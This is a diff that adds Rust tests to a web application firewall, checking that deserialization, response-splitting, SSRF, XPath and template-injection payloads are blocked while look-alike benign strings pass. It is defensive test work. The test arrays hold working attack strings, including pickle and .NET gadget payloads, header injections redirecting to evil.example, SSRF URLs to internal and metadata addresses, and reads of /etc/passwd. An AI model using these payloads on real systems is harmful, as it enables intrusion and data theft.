@@ -8,9 +8,9 @@
 mod common;
 
 use common::{
-    assert_header, assert_placed, assert_queries, every_place_but, form_blocked, header_blocked,
-    inspect_with, json_blocked, multipart_blocked, percent_encode, query_blocked, verdict, Place,
-    EVERY_PLACE,
+    assert_class, assert_header, assert_placed, assert_queries, every_place_but, form_blocked,
+    header_blocked, inspect_with, json_blocked, multipart_blocked, percent_encode, query_blocked,
+    verdict, Place, EVERY_PLACE,
 };
 use rampart_waf::{Exclusion, Policy};
 
@@ -1661,4 +1661,180 @@ fn exclusions_on_a_structured_value_cover_its_parts() {
             "{header}: {value}: excluded on {other}"
         );
     }
+}
+
+/// Session 12: deserialization streams of the other platforms — a .NET
+/// BinaryFormatter stream (base64 `AAEAAAD/////`), an ObjectStateFormatter
+/// object in binary (`/wEy…`), a Json.NET type key naming a `System` type that
+/// starts processes or reads XAML, a fastjson/Jackson type key or default-typing array naming a Java class, a
+/// Python pickle importing a command module (protocol 0 raw or in base64,
+/// protocol 2–5 in base64). Before: each passed (rules 3036–3038, 7014). A
+/// stream is a whole value: not looked for after 20 KiB of text.
+#[test]
+fn deserialization_streams_of_dotnet_java_and_python() {
+    let attacks = [
+        "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3IsIFZlcnNpb249My4wLjAuMA==",
+        "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAASVN5c3RlbSwgVmVyc2lvbj00LjAuMC4w",
+        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}"#,
+        r#"{"__type":"System.Diagnostics.Process, System","StartInfo":{"FileName":"cmd"}}"#,
+        r#"{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}"#,
+        r#"["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://x.example/a"}]"#,
+        r#"{"@class":"ch.qos.logback.core.db.DriverManagerConnectionSource","url":"jdbc:h2:mem:"}"#,
+        "cos\nsystem\n(S'id'\ntR.",
+        "csubprocess\ncheck_output\n(S'id'\ntR.",
+        "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
+        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+        "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+    ];
+    let whole_value = every_place_but(Place::AfterFiller);
+    assert_placed(true, &whole_value, &attacks);
+    let benign = [
+        // A page's own ViewState (LosFormatter of a Pair) and an ordinary base64 blob.
+        "/wEPDwUKLTM0MjUyODc0Nw9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk",
+        "AAAAAAAAAAAAAAAAAAAAAA==",
+        // Json.NET typing of the application's own and collection types.
+        r#"{"$type":"Shop.Models.Order, Shop","Lines":[]}"#,
+        r#"{"$type":"System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib","$values":["a"]}"#,
+        // JSON-LD and protobuf Any types, a Java class named in prose.
+        r#"{"@type":"Product","name":"Canvas tote"}"#,
+        r#"{"@type":"type.googleapis.com/google.rpc.ErrorInfo","reason":"QUOTA"}"#,
+        r#"["com.example.Events", "v2"]"#,
+        "The fix is in org.apache.commons.lang3.StringUtils, see the changelog",
+        // Hex digests and ordinary text with the words.
+        "aced00051f2c9e8d7b6a5c4d3e2f10a9b8c7d6e5",
+        "cos\nsin\ntan",
+        "cos\nsin\n(x + y)",
+        "macOS system settings",
+        "gASVHQ",
+    ];
+    assert_placed(false, &whole_value, &benign);
+    // A JSON body that is the typed object itself.
+    for body in [
+        r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}"#,
+        r#"{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}"#,
+    ] {
+        assert!(json_blocked(body), "json body passed: {body}");
+    }
+    assert!(!json_blocked(r#"{"@type":"Product","name":"tote"}"#));
+}
+
+/// Session 12: response splitting behind the line breaks header writers make
+/// of other characters — U+2028/U+2029, and a code point whose low byte is CR
+/// or LF (`嘊` U+560A, `č` U+010D: a writer keeping one byte per character sends
+/// 0x0A/0x0D) — and the security headers an attacker injects
+/// (`Access-Control-Allow-Origin`, `X-XSS-Protection: 0`).
+/// Before: passed in form, JSON, multipart and cookie (rule 12007).
+#[test]
+fn response_splitting_behind_unicode_line_breaks() {
+    let attacks = [
+        "a\u{2029}Location: http://evil.example/",
+        "a\u{2028}Location: //evil.example/",
+        "%E2%80%A9Location:%20http://evil.example",
+        "x\u{560a}\u{560d}Set-Cookie: sid=attacker",
+        "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
+        "a\u{010d}\u{010a}Set-Cookie: x=y",
+        "%0d%0aAccess-Control-Allow-Origin:%20*",
+        "x\r\nAccess-Control-Allow-Credentials: true",
+        "%0D%0AX-XSS-Protection:0%0D%0A%0D%0A<svg onload=alert(1)>",
+    ];
+    assert_placed(true, EVERY_PLACE, &attacks);
+    let benign = [
+        "最上Location: Shinjuku",
+        "嘊 set cookie recipe",
+        "Line one\u{2028}Location of the shop: Main St",
+        "Notes:\nContent-Type is set by the server",
+        "Subject: hello\nAccess control list updated",
+        "Read our CORS guide: Access-Control-Allow-Origin explained",
+    ];
+    assert_placed(false, EVERY_PLACE, &benign);
+    // A part header of a multipart batch in a body (legit-dev: Google Drive's /batch;
+    // in a query or cookie 12001 reads any header after a line break).
+    assert_placed(
+        false,
+        &[
+            Place::Form,
+            Place::Json,
+            Place::JsonNested,
+            Place::Multipart,
+        ],
+        &["x\r\nContent-Type: application/json; charset=UTF-8"],
+    );
+}
+
+/// Session 12: a URL whose host is a wildcard-DNS name that resolves to the
+/// internal IPv4 address it spells (`127.0.0.1.nip.io`, `10-0-0-5.sslip.io`).
+/// Before: passed (rule 8004).
+#[test]
+fn ssrf_through_wildcard_dns_names() {
+    let attacks = [
+        "http://127.0.0.1.nip.io/",
+        "http://10-0-0-5.sslip.io:8080/admin",
+        "https://app.192.168.1.10.nip.io/internal",
+        "http://169-254-169-254.sslip.io/latest/",
+        "gopher://172.16.0.3.xip.io:6379/_INFO",
+    ];
+    let benign = [
+        "https://203.0.113.7.nip.io/demo",
+        "https://nip.io/",
+        "http://my-app.sslip.io/",
+        "https://v10.0.3.releases.example.com/notes",
+        "Use 127.0.0.1.nip.io for local testing",
+    ];
+    // A URL is a whole value (the SSRF rules read it from its start).
+    assert_class(&every_place_but(Place::AfterFiller), &attacks, &benign);
+}
+
+/// Session 12: XPath break-outs through an axis step in a union
+/// (`'] | /child::node() | a['`) and XPath 2.0 functions that fetch a URL
+/// (`' or doc-available('http://…') or '`). Before: passed (rule 1021).
+#[test]
+fn xpath_axes_and_url_functions() {
+    let attacks = [
+        "'] | /child::node() | a['",
+        "')] | /descendant-or-self::password | a[('",
+        "' or doc-available('http://evil.example/x') or '",
+        "x' and unparsed-text('file:///etc/passwd') or 'a'='b",
+        "' or collection('http://evil.example/') or '",
+    ];
+    let benign = [
+        "child::node() in XPath selects children",
+        "Is doc-available('x') supported? or not",
+        "see ancestor::div in the docs",
+    ];
+    assert_class(EVERY_PLACE, &attacks, &benign);
+}
+
+/// Session 12: template probes of engines the first round covered thinly —
+/// Jinja's `{% print %}`, a string literal indexed by a joined name
+/// (`''['__cla'+'ss__']`), Velocity directives on a variable (`#foreach($i …)`,
+/// `#evaluate($x)`), Ruby's file and process classes inside ERB tags
+/// (`<%= Dir.entries('/') %>`), and JSON text setting `constructor.prototype`.
+/// Before: passed (rules 9002, 9007, 3015).
+#[test]
+fn template_statements_of_more_engines_and_prototype_in_json_text() {
+    let attacks = [
+        "{% print(7*7) %}",
+        "{% print config %}",
+        "{{ ''['__cla'+'ss__'] }}",
+        "{{ \"\"[\"__class__\"] }}",
+        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
+        "#evaluate($payload)",
+        "<%= Dir.entries('/') %>",
+        "<%= File.read('/etc/passwd') %>",
+        "<%= IO.popen('id').read %>",
+        "<% eval(params[:x]) %>",
+        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
+        r#"{'constructor': {'prototype': {'polluted': 1}}}"#,
+    ];
+    assert_placed(true, &every_place_but(Place::Cookie), &attacks);
+    let benign = [
+        "{{ 'abc'[0] }}",
+        "#if you want, call me",
+        "#foreach item in the list",
+        "<%= @product.title %>",
+        "<%= link_to 'Files', files_path %>",
+        r#"{"constructor": {"name": "Acme"}, "prototype": "ready"}"#,
+        "Print the file with raw blocks {% endraw %}",
+    ];
+    assert_placed(false, &every_place_but(Place::Cookie), &benign);
 }
